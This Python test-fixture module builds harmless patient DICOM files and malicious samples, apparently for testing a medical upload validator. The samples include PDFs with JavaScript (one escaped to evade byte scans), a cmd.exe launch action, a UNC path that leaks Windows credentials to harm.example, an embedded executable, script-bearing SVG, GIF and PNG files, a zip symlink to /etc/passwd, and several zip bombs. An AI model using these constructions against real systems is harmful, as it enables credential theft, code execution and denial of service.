"""Files for tests, generated: harmless ones of patients, and malicious ones."""

import io
import random
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image
from pydicom.dataset import Dataset, FileMetaDataset
from pydicom.uid import CTImageStorage, ExplicitVRLittleEndian

MARKER = "window.harm = 'done'"
SCRIPT = f"<script>{MARKER}; document.title = 'harm'</script>"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg">{SCRIPT}</svg>'.encode()
HTML = f"<!DOCTYPE html><title>Letter</title>{SCRIPT}".encode()
GIF_JS = b"GIF89a/*" + bytes(20) + f"*/=1;{MARKER}//;".encode()
ELSEWHERE = r"\\harm.example\share\a.pdf"  # Windows sends the user's credentials there
PROGRAM = b"MZ\x90\0" + bytes(56) + b"\x80\0\0\0"


def pdf(**options) -> bytes:
    """One empty page; `root` adds to the catalogue, and `page` to the page."""
    document = pikepdf.new()
    document.add_blank_page()
    for place, name in [(document.Root, "root"), (document.pages[0].obj, "page")]:
        for key, value in options.pop(name, {}).items():
            place[key] = document.make_indirect(value)
    written = io.BytesIO()
    document.save(written, **options)
    return written.getvalue()


def action(kind: str, **rest) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name(f"/{kind}"), **rest)


def link() -> pikepdf.Dictionary:
    return action("URI", URI="https://clinic.example/")


def annotation(kind: str, **rest) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(f"/{kind}"), Rect=[0, 0, 9, 9], **rest)


def pdf_with_script() -> bytes:
    return pdf(root={"/OpenAction": action("JavaScript", JS="app.alert('harm')")})


def pdf_with_a_script_under_escapes() -> bytes:
    """The name is escaped, so that no search of the bytes finds it."""
    return pdf_with_script().replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53")


def pdf_that_starts_a_program() -> bytes:
    return pdf(page={"/Annots": pikepdf.Array([annotation("Link", A=action("Launch", F="cmd.exe"))])})


def pdf_that_asks_elsewhere(kind: str, **rest) -> bytes:
    """A request to another machine on opening, which reveals the reader and the time."""
    return pdf(root={"/OpenAction": action(kind, **rest)})


def pdf_with_its_content_elsewhere() -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    document.pages[0].obj.Contents = document.make_stream(b"", F=pikepdf.String(ELSEWHERE))
    written = io.BytesIO()
    document.save(written)
    return written.getvalue()


def pdf_with_a_file_inside() -> bytes:
    document = pikepdf.open(io.BytesIO(pdf()))
    document.attachments["a.exe"] = PROGRAM
    written = io.BytesIO()
    document.save(written, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return written.getvalue()


def encrypted_pdf(password: str = "secret") -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="owner", user=password))


def picture(form: str, **options) -> bytes:
    written = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(written, form, **options)
    return written.getvalue()


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack("!I", len(content)) + kind + content + struct.pack("!I", zlib.crc32(kind + content))


def large_png(width: int, height: int) -> bytes:
    """A PNG that declares this size, and is some bytes short."""
    head = struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = chunk(b"IDAT", zlib.compress(bytes(1000)))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + pixels + chunk(b"IEND", b"")


def png_with_html_in_a_comment() -> bytes:
    whole = picture("PNG")
    return whole[:33] + chunk(b"tEXt", b"Comment\0" + HTML) + whole[33:]


def dicom(preamble: bytes = bytes(128), sop_class: str = CTImageStorage) -> bytes:
    image = Dataset()
    image.SpecificCharacterSet = "ISO_IR 192"
    if sop_class:
        image.SOPClassUID = sop_class
    image.SOPInstanceUID = "1.2.3.4"
    image.Rows = image.Columns = 2
    image.PatientName = "Example^Kim"
    image.file_meta = FileMetaDataset()
    image.file_meta.TransferSyntaxUID = ExplicitVRLittleEndian
    image.file_meta.MediaStorageSOPClassUID = sop_class or CTImageStorage
    image.file_meta.MediaStorageSOPInstanceUID = "1.2.3.4"
    written = io.BytesIO()
    image.save_as(written, enforce_file_format=True)
    return preamble.ljust(128, b"\0") + written.getvalue()[128:]


def packed(members: dict[str, bytes]) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return written.getvalue()


def locked_zip() -> bytes:
    """Marked as encrypted in both headers of a zip file."""
    whole = bytearray(packed({"a.dcm": dicom()}))
    whole[6] |= 1
    whole[whole.index(b"PK\x01\x02") + 8] |= 1
    return bytes(whole)


def zip_with_a_link() -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        link = zipfile.ZipInfo("a.dcm")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return written.getvalue()


def zip_broken_on_its_way() -> bytes:
    """One byte differs, far behind the beginning of the image."""
    whole = bytearray(packed({"a.dcm": dicom() + random.Random(1).randbytes(600_000)}))
    whole[500_000] ^= 1
    return bytes(whole)


def bomb() -> bytes:
    """An image in front, and then zeros: 16 KB that unpack to 16 MB."""
    return packed({"a.dcm": dicom() + bytes(16 * 1024 * 1024)})


def bomb_that_lies() -> bytes:
    """The same bomb, with a small size in its directory."""
    whole = bytearray(bomb())
    at = whole.index(b"PK\x01\x02")
    whole[at + 24 : at + 28] = struct.pack("<I", 5000)
    return bytes(whole)


def zip_with_a_folder_that_is_a_file(content: bytes) -> bytes:
    return packed({"a.dcm": dicom(), "a/": content})


def bomb_of_one_file_many_times(times: int = 4000) -> bytes:
    """A directory that lists the same packed bytes again and again (Fifield, A better zip bomb, 2019)."""
    content = dicom() + b"".join(random.Random(number).randbytes(20) * 60 for number in range(20))
    whole = packed({"a.dcm": content})
    start, end = whole.index(b"PK\x01\x02"), whole.index(b"PK\x05\x06")
    entries = whole[start:end] * times
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, times, times, len(entries), start, 0)
    return whole[:start] + entries + tail


def zip_that_asks_for_much_memory() -> bytes:
    """Packed by a method (LZMA) that declares its memory in advance: all of 4 GB."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr("a.dcm", dicom())
    whole = bytearray(written.getvalue())
    at = whole.index(b"a.dcm") + len("a.dcm") + 5
    whole[at : at + 4] = b"\xff" * 4
    return bytes(whole)
